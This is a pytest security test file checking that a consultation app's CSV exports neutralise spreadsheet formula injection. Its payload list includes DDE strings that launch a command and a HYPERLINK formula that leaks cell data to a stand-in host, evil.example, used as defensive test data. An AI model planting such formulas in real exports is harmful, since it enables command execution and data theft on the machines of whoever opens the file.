"""Spreadsheet formula injection: no exported cell starts a formula when opened in Excel,
LibreOffice or Google Sheets (OWASP "CSV injection": prefix such cells with a quote)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from consult.models import Submission
from consult.services import SubmissionInput, submit
from tests.security.reports import build_report, open_data_csv

ROOT = Path(__file__).resolve().parents[2]

# What a spreadsheet treats as the start of a formula (or, for tab and CR, as a way to slip
# one past a quick check of the first character).
FORMULAS = [
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_the_export_helper_quotes_formula_cells(value):
    from analysis.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Plain text", "ٹھیک ہے", "", "1+1", "a=b", 42, None, 3.5])
def test_the_export_helper_leaves_other_cells_alone(value):
    from analysis.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == value


def test_every_csv_export_goes_through_the_one_helper():
    """A new export that writes CSV by itself would bypass the neutralisation."""
    writers = re.compile(r"csv\.(?:writer|DictWriter)\b")
    offenders = []
    for folder in ("analysis", "cms", "consult", "moderation"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "exports.py" and path.parent.name == "analysis":
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_open_data_csv_neutralises_formulas(client, demo, django_capture_on_commit_callbacks):
    clause = demo.current_version().clauses.first()
    tokens = []
    for n, formula in enumerate(FORMULAS):
        token = f"formula-{n}"
        submitted = submit(
            demo,
            SubmissionInput(
                text=f"{formula} and the complaint deadline of thirty days is far too long.",
                stance="oppose",
                stakeholder="business",
                organisation=f"=SUM({n}+1) Traders",  # a link here is held as spam
                language="en",
                clause_id=clause.pk,
                client_token=token,
            ),
        )
        tokens.append(submitted.pk)
    published = Submission.objects.filter(pk__in=tokens, is_public=True)
    assert published.count() == len(FORMULAS)
    report = build_report(demo, django_capture_on_commit_callbacks)
    body, rows = open_data_csv(client, report)
    by_id = {int(row["id"]): row for row in rows}
    for submission in published:
        row = by_id[submission.pk]
        assert row["text"] == "'" + submission.comment
        assert row["organisation"] == "'" + submission.organisation
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert "+cmd|" in body  # the text is kept, only made inert
